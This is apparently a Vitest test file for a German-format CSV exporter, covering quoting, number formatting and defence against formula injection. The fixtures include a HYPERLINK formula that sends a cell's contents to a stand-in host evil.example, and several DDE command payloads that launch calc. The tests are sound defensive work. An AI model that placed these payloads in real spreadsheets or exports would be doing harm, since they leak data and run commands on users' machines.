import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvCell, toCsv } from './csv';

const HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Details")';

describe('toCsv', () => {
  it('starts with the BOM, separates by semicolons and ends every row with CRLF', () => {
    expect(
      toCsv([
        ['Name', 'Ort'],
        ['Anna', 'Köln'],
      ]),
    ).toBe(`${CSV_BOM}Name;Ort\r\nAnna;Köln\r\n`);
  });

  it('gives just the BOM for no rows', () => {
    expect(toCsv([])).toBe(CSV_BOM);
  });

  it('quotes cells with semicolons, quotes and line breaks', () => {
    expect(toCsv([['Müller; Anna', 'Köln "Süd"', 'Zeile 1\nZeile 2', 'a\rb']])).toBe(
      `${CSV_BOM}"Müller; Anna";"Köln ""Süd""";"Zeile 1\nZeile 2";"a\rb"\r\n`,
    );
  });

  it('writes empty cells for null and undefined', () => {
    expect(toCsv([['a', null, undefined, 'b']])).toBe(`${CSV_BOM}a;;;b\r\n`);
  });
});

describe('csvCell: formula payloads in text', () => {
  it.each([
    ['a member name', HYPERLINK, `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Details"")"`],
    ['a comment starting with +', '+49 123 cmd|/c calc', "'+49 123 cmd|/c calc"],
    ['a free text starting with -', '-2+3+cmd|/C calc!A0', "'-2+3+cmd|/C calc!A0"],
    ['an @ function', '@SUM(1+1)*cmd|/C calc!A0', "'@SUM(1+1)*cmd|/C calc!A0"],
    ['a leading tab', '\t=1+1', "'\t=1+1"],
    ['a leading carriage return', '\r=1+1', `"'\r=1+1"`],
    ['a number typed as text', '-5', "'-5"],
  ])('neutralises %s', (_what, value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('leaves text alone that only contains formula characters later on', () => {
    expect(csvCell('Anna = Chefin, Mail a@b.de, 3-4 Tage')).toBe('Anna = Chefin, Mail a@b.de, 3-4 Tage');
  });

  it('neutralises a formula in any column of a row, not just the first', () => {
    expect(toCsv([['Anna', HYPERLINK, 'ok']]).split(';')[1]).toBe(
      `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Details"")"`,
    );
  });
});

describe('csvCell: numbers stay numbers', () => {
  it('writes negative numbers as numbers, not as neutralised text', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(toCsv([[-5, 0, 7]])).toBe(`${CSV_BOM}-5;0;7\r\n`);
  });

  it('uses the German decimal comma', () => {
    expect(csvCell(4.25)).toBe('4,25');
    expect(csvCell(-0.5)).toBe('-0,5');
  });

  it('writes an empty cell for values that are not finite', () => {
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(Number.POSITIVE_INFINITY)).toBe('');
  });
});
